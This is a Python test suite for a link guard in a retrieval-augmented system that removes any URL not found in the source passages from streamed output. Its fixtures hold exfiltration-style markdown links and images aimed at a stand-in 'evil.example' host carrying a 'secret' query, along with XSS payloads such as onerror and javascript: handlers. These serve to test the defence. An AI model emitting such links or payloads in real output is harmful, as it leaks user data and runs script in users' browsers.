"""No address leaves that does not stand in a passage, however it is written and however the stream is cut."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.guard import LONGEST_LINK, LinkGuard

PASSAGES = [
    "See https://docs.example/port for more. Use `curl http://localhost:8000/v1`.",
    'A [guide](https://ok.example/a_(b)) and <a href="https://ok.example">k</a>, or www.ok.example/x.',
]

EVIL = "evil.example/?q=secret"


def guarded(text: str, size: int | None = None) -> str:
    """The text through a guard, whole or in pieces of `size` characters."""
    guard = LinkGuard(PASSAGES)
    size = size or max(len(text), 1)
    pieces = [piece for at in range(0, len(text), size) for piece in guard.feed(text[at : at + size])]
    return "".join(piece.text for piece in [*pieces, *guard.finish()])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"[click](https://{EVIL}) now", "click now"),
        (f"![alt](https://{EVIL})", "alt"),
        (f"![]( <//{EVIL}> 'title' )", ""),
        (f"[c](\n//{EVIL})", "c"),
        (f"![a][r]\n\n[r]: https://{EVIL}", "![a][r]\n\n[r] : (link removed)"),
        (f"[1]: https://{EVIL}", "[1] : (link removed)"),
        (f"<https://{EVIL}> y", "(link removed) y"),
        (f"see HTTPS://{EVIL}, and", "see (link removed), and"),
        (f"see www.{EVIL}.", "see (link removed)."),
        (f"//{EVIL} // comment", "(link removed) // comment"),
        (f'a<img src="//{EVIL}">b', "a b"),
        (f"<a\nhref=//{EVIL}>click</a>", "click</a>"),
        ("![x](data:image/png;base64,AAAA) [j](javascript:alert(1))", "x j"),
        (f"[![i](//{EVIL})](//{EVIL})", "[i]"),
        (f"[1](https://{EVIL}) [2](https://docs.example/port)", "[1] [2]"),
        (f"[a\\](//{EVIL})", "a\\"),
        (f"[`a]`](//{EVIL}) `", "[`a]`] `"),
        (f"ww[w.{EVIL}](//x)", "ww w.evil.example/?q=secret"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<img src=x onerror=alert(1)>", ""),
        (f"mailto:a@{EVIL}", "(link removed)"),
        (f"vscode://{EVIL}", "vscode(link removed)"),
        (f"`![a](//{EVIL})`", "`![a]`"),
    ],
)
def test_an_address_that_no_passage_holds_goes_and_its_words_stay(text: str, expected: str) -> None:
    assert guarded(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example/port. And (https://docs.example/port) too.",
        "[guide](https://ok.example/a_(b)) and www.ok.example/x",
        '<a href="https://ok.example">k</a>',
        "Use `curl http://localhost:8000/v1`.\n\n```sh\ncurl http://localhost:8000/v1\n```\n",
        "```python\nhandlers[0](event)\nx[1]: int = a < b\n```\n",
        "List<String>, <your-key>, <br/>, a < b, 1 <2, [x] [note 1], 5:30, C://, data: none, and/or, $a[0]$ ~ `x`",
        "Windows: C:\\dir\\file, \\[x\\], \\`not code\\`",
        "| a | b |\n|---|---|\n| 1 | 2 |\n- [ ] todo\n> quote!\n",
        "",
    ],
)
def test_what_may_stay_stays(text: str) -> None:
    assert guarded(text) == text


def test_a_fence_that_a_renderer_may_not_see_lets_no_address_out() -> None:
    fenced = f"- ```\n![a](//{EVIL})\n[r]: //{EVIL}\n<img src='//{EVIL}'>\n<img src=https://{EVIL}>\n"
    out = guarded(fenced)
    assert "](" not in out
    assert "]:" not in out
    assert "<img" not in out
    assert "https:" not in out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[1](/a) [x]: /a\na[0]: int, [b]({{ c }}/d)", "[1](/a) [x]: /a\na[0]: int, [b]({{ c }}/d)"),
        ("[a]: javascript:alert(1)", "[a] : javascript:alert(1)"),
        ("[a]( javascript: alert(1))", "[a] ( javascript: alert(1))"),
        ("[a](javascript:b) <script>c", "a c"),
    ],
)
def test_a_quote_keeps_what_leads_nowhere_else_and_does_not_run(text: str, expected: str) -> None:
    guard = LinkGuard([text], quoted=True)
    assert "".join(piece.text for piece in (*guard.feed(text), *guard.finish())) == expected


FRAGMENTS = st.sampled_from(
    [
        *"[]()<>!`~\\:/ \n\t\"'=*-.1a^†【】",
        "```", "~~~", "``", "](", "]:", "![", "http://", "https://", "www.", "://", "//", "evil.example", "/?q=secret",
        "https://docs.example/port", "<img src=", "<a href='", "<b>", "</b>", "\n\n", "\n```py\n", "\n```\n", "[1]",
        "[9]", "[1, 9]", "【2】", "[1-3]", "[^1]", "the port is 8000", "data:", "javascript:", "mailto:", "&#104;",
        "café 日本",
    ]
)  # fmt: skip
TEXTS = st.lists(FRAGMENTS, max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 9), min_size=1, max_size=12))
def test_the_result_does_not_depend_on_how_the_stream_was_cut(text: str, sizes: list[int]) -> None:
    guard, at, turn = LinkGuard(PASSAGES), 0, 0
    pieces = []
    while at < len(text):
        size = sizes[turn % len(sizes)]
        pieces += guard.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    pieces += guard.finish()
    assert "".join(piece.text for piece in pieces) == guarded(text)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_no_foreign_address_is_left_anywhere(text: str) -> None:
    known = "\n".join(PASSAGES)
    for address in re.findall(r"(?i)(?:https?://|www\.)\w[^\s<>\"'`\[\]]*", guarded(text)):
        assert any(address[:end] in known for end in range(len(address), 11, -1)), address
        assert "secret" not in address


def test_what_is_held_back_is_bounded() -> None:
    for opening in ("[x](", "http://", "<a ", "`", "```", "![", "[" * 50 + "](<"):
        guard = LinkGuard(PASSAGES)
        given = sum(len(piece.text) for piece in guard.feed(opening + "a" * 3 * LONGEST_LINK))
        held = len(opening) + 3 * LONGEST_LINK - given
        assert held <= LONGEST_LINK + 64 or "http" in opening, opening


def test_hostile_text_takes_no_more_than_moments() -> None:
    for unit in ("word ", "[", "<", "`", "](", "http://a", "[a](", "&lt; ", "~", "``` `` "):
        text = unit * (40_000 // len(unit))
        began = time.perf_counter()
        guarded(text, 50)
        assert time.perf_counter() - began < 20, unit
